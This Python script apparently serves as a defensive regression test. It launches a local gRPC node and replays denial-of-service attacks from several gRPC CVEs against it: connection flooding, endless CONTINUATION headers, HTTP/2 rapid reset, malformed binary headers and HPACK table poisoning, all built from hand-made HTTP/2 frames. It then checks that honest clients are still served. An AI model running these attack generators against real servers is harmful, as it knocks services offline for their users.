#!/usr/bin/python3
"""The advisories against the gRPC that Debian 12 has, each tried on a real node over TLS: by somebody without a
certificate, and by somebody who has one. Meanwhile an honest client has to be answered, memory has to stay below the
limit, and the node has to stop in good order afterwards. README.md says what contains which of them.

    cve_test.py BUILD_DIR SOURCE_DIR [--seconds=N] [NAME...]
"""

import argparse
import pathlib
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time

import grpc

parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
parser.add_argument('build', type=pathlib.Path)
parser.add_argument('source', type=pathlib.Path)
parser.add_argument('names', nargs='*')
parser.add_argument('--seconds', type=float, default=1.0)
ARGUMENTS = parser.parse_args()
BUILD, SOURCE = ARGUMENTS.build.resolve(), ARGUMENTS.source.resolve()
sys.path.insert(0, str(SOURCE / 'tools'))
from demo_keys import DOMAIN, Keys  # noqa: E402
from demo_nodes import SLOWNESS, DemoError, free_ports, wait_until  # noqa: E402

LIMIT_MIB = 1024
CALENDARS = b'/duban.v1.DirectoryService/ListCalendars'
SETTINGS, HEADERS, DATA, RESET, CONTINUATION = 4, 1, 0, 3, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload


def hpack_string(text):
    """Not compressed; a length with a prefix of seven bits."""
    size, out = len(text), bytearray()
    if size < 127:
        return bytes([size]) + text
    out.append(127)
    size -= 127
    while size >= 128:
        out.append(0x80 | size & 0x7f)
        size >>= 7
    return bytes(out) + bytes([size]) + text


def field(name, value, first=0):
    """A literal header; `first` 0x40: with indexing."""
    return bytes([first]) + hpack_string(name) + hpack_string(value)


CALL = (b'\x83\x87' + field(b':path', CALENDARS) + field(b':authority', b'x') +
        field(b'content-type', b'application/grpc') + field(b'te', b'trailers'))
MESSAGE = b'\0\0\0\0\0'


class Connection:
    """HTTP/2 by hand over TLS: says what it likes, reads nothing and never acknowledges settings."""

    def __init__(self, node, keys):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(['h2'])
        if keys is not None:
            context.load_cert_chain(keys / 'current' / 'certificate.pem', keys / 'current' / 'key.pem')
        raw = socket.create_connection(('127.0.0.1', node.port), timeout=2)
        self.socket = context.wrap_socket(raw, server_hostname=f'city.{DOMAIN}')
        self.socket.settimeout(2)
        self.stream = -1
        self.send(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS, 0, 0))

    def next_stream(self):
        self.stream += 2
        return self.stream

    def send(self, data):
        self.socket.sendall(data)

    def close(self):
        self.socket.close()


class Node:
    """The real program with certificates, and an honest client beside it."""

    def __init__(self, folder, descriptors=None):
        self.folder, self.keys = folder, Keys(BUILD / 'bin' / 'duban', folder)
        self.port = free_ports(1)[0]
        self.log = open(folder / 'log', 'wb')
        port_file = folder / 'port'
        limit = f'ulimit -n {descriptors}; ' if descriptors else ''
        self.process = subprocess.Popen(
            ['/bin/sh', '-c', limit + 'exec "$0" "$@"', BUILD / 'bin' / 'duban-node', '--node=city',
             f'--data-dir={folder / "data"}', f'--listen=127.0.0.1:{self.port}', '--admin-listen=127.0.0.1:0',
             f'--keys={self.keys.of("node/city")}', f'--port-file={port_file}'],
            stdout=self.log, stderr=self.log, stdin=subprocess.DEVNULL)
        wait_until(lambda: port_file.exists() or self.process.poll() is not None, 'the node does not start')
        assert self.process.poll() is None, (folder / 'log').read_text()
        self.unit, self.other = self.keys.of('node/city/unit/honest'), self.keys.of('node/city/unit/attacker')

    def ask(self):
        """How long an honest client waits, which dials anew."""
        folder = self.unit / 'current'
        credentials = grpc.ssl_channel_credentials(*[(folder / name).read_bytes()
                                                     for name in ('ca.pem', 'key.pem', 'certificate.pem')])
        begun = time.monotonic()
        with grpc.secure_channel(f'127.0.0.1:{self.port}', credentials,
                                 [('grpc.ssl_target_name_override', f'city.{DOMAIN}'),
                                  ('grpc.use_local_subchannel_pool', 1)]) as channel:
            channel.unary_unary(CALENDARS.decode())(b'', timeout=10 * SLOWNESS)
        return time.monotonic() - begun

    def answers(self):
        try:
            self.ask()
            return True
        except grpc.RpcError:
            return False

    def memory(self):
        status = pathlib.Path(f'/proc/{self.process.pid}/status').read_text(encoding='ascii')
        return next(int(line.split()[1]) // 1024 for line in status.splitlines() if line.startswith('VmHWM:'))

    def stop(self):
        self.process.terminate()
        code = self.process.wait(timeout=30 * SLOWNESS)
        self.log.close()
        return code


# Each attack is a step that is repeated on one connection until the server hangs up or the time is over.

def many_descriptors(node, keys, until):
    """CVE-2023-4785: connections that say nothing, more than there are descriptors for; gRPC's own acceptor would never
    accept again. No handshake is made, so certificates are neither here nor there."""
    while time.monotonic() < until:
        opened = [socket.create_connection(('127.0.0.1', node.port), timeout=2) for _ in range(300)]
        for one in opened:
            one.close()
        yield


def endless_header(connection):
    """CVE-2023-33953: one header block that does not end."""
    stream = connection.next_stream()
    connection.send(frame(HEADERS, 0, stream, CALL))
    block = b''.join(field(b'x-%d' % n, b'x' * 100) for n in range(140))
    while True:
        connection.send(frame(CONTINUATION, 0, stream, block))
        yield


def rapid_reset(connection):
    """CVE-2023-44487: calls that are begun and dropped."""
    while True:
        calls = []
        for _ in range(100):
            stream = connection.next_stream()
            calls.append(frame(HEADERS, END_HEADERS, stream, CALL) + frame(RESET, 0, stream, b'\0\0\0\x08'))
        connection.send(b''.join(calls))
        yield


def bad_binary_header(connection):
    """CVE-2023-32732: a -bin header that is no base64; gRPC closes the whole connection for it."""
    while True:
        connection.send(frame(HEADERS, END_HEADERS, connection.next_stream(), CALL + field(b'a-bin', b'\xff!?~')))
        yield


def table_out_of_step(connection):
    """CVE-2023-32731: a header that is too large, with indexing: what it would have added is used behind it."""
    while True:
        large = field(b'x-large', b'y' * 12000, first=0x40)
        connection.send(frame(HEADERS, END_HEADERS, connection.next_stream(), CALL + large))
        connection.send(frame(HEADERS, END_HEADERS, connection.next_stream(), CALL + b'\xbe'))
        yield


def odd_headers(connection):
    """CVE-2023-1428: headers whose sizes made other lines of gRPC abort."""
    while True:
        for extra in (field(b'te', b''), field(b'te', b'x' * 3000), field(b'grpc-timeout', b'9' * 40 + b'S'),
                      field(b'grpc-tags-bin', b'A' * 4096), field(b'', b'')):
            connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), CALL + extra))
        yield


def poisoned_table(connection):
    """CVE-2024-7246: an entry of the table that fails to be read, used again by a later call on the connection."""
    while True:
        poison = field(b'poison-bin', b'*not base64*', first=0x40)
        connection.send(frame(HEADERS, END_HEADERS, connection.next_stream(), CALL + poison))
        for _ in range(3):
            connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), CALL + b'\xbe'))
        yield


def headers_before_settings(connection):
    """Found here: the limit on metadata counts only once the client has acknowledged settings; ours counts always."""
    block = CALL + b''.join(field(b'x-%d' % n, b'x' * 100) for n in range(100))
    while True:
        stream = connection.next_stream()
        connection.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, MESSAGE))
        yield


def on_connections(attack):
    """The attack on one connection after the other."""
    def run(node, keys, until):
        while time.monotonic() < until:
            try:
                connection = Connection(node, keys)
            except OSError:
                yield
                continue
            try:
                for _ in attack(connection):
                    yield
                    if time.monotonic() > until:
                        break
            except OSError:
                yield
            finally:
                connection.close()
    run.__doc__ = attack.__doc__
    return run


ATTACKS = {
    'cve-2023-4785': many_descriptors,
    'cve-2023-33953': on_connections(endless_header),
    'cve-2023-44487': on_connections(rapid_reset),
    'cve-2023-32732': on_connections(bad_binary_header),
    'cve-2023-32731': on_connections(table_out_of_step),
    'cve-2023-1428': on_connections(odd_headers),
    'cve-2024-7246': on_connections(poisoned_table),
    'metadata-limit': on_connections(headers_before_settings),
}
# How long an honest client may wait, in seconds; who is not named: LIMIT_SECONDS. With a certificate, what gRPC has
# read before anybody can hang up is worked off first: on two cores, of which the attacker takes one, that lasts. While
# the queue of a listening socket is full the kernel drops a client's SYN, and the client's kernel says it again after
# one second and then after two (RFC 6298). Then the promise is that the node comes out of it and nothing is lost.
LIMIT_SECONDS = 1.0
SLOWER = {('cve-2023-44487', True): 5.0, ('cve-2023-4785', False): 4.0, ('cve-2023-4785', True): 4.0}


def judge(name, with_certificate):
    """What did not hold; nothing: all did."""
    folder = pathlib.Path(tempfile.mkdtemp(prefix=f'duban-{name}-'))
    node = Node(folder, descriptors=128 if name == 'cve-2023-4785' else None)
    wrong, waits, steps = [], [], [0]
    node.ask()

    def attack():
        until = time.monotonic() + ARGUMENTS.seconds
        for _ in ATTACKS[name](node, node.other if with_certificate else None, until):
            steps[0] += 1

    attacker = threading.Thread(target=attack)
    attacker.start()
    while attacker.is_alive():
        try:
            waits.append(node.ask())
        except grpc.RpcError as error:
            # Descriptors that are all taken are nobody's for a moment.
            if name != 'cve-2023-4785':
                wrong.append(f'an honest client got {error.code().name}')
        time.sleep(0.02)
    attacker.join()
    begun = time.monotonic()
    try:
        wait_until(node.answers, 'nobody is answered', seconds=5)
    except DemoError:
        wrong.append('five seconds afterwards nobody is answered')
    after = time.monotonic() - begun
    peak, code = node.memory(), node.stop()
    worst = max(waits, default=0.0)
    limit = SLOWER.get((name, with_certificate), LIMIT_SECONDS)
    if worst > limit * SLOWNESS:
        wrong.append(f'an honest client waited for {worst:.2f} s')
    if peak > LIMIT_MIB:
        wrong.append(f'{peak} MiB')
    if code != 0:
        wrong.append(f'it ended with {code}')
    if steps[0] == 0:
        wrong.append('nothing was tried')
    who = 'with a certificate' if with_certificate else 'without'
    print(f'{name:16} {who:18} {"held" if not wrong else "; ".join(sorted(set(wrong)))}: {steps[0]} steps, '
          f'{len(waits)} honest calls, worst {worst:.3f} s, afterwards {after:.3f} s, peak {peak} MiB', flush=True)
    shutil.rmtree(folder)
    return not wrong


def main():
    names = ARGUMENTS.names or list(ATTACKS)
    held = [judge(name, with_certificate) for name in names for with_certificate in (False, True)]
    return 0 if all(held) else 1


if __name__ == '__main__':
    sys.exit(main())
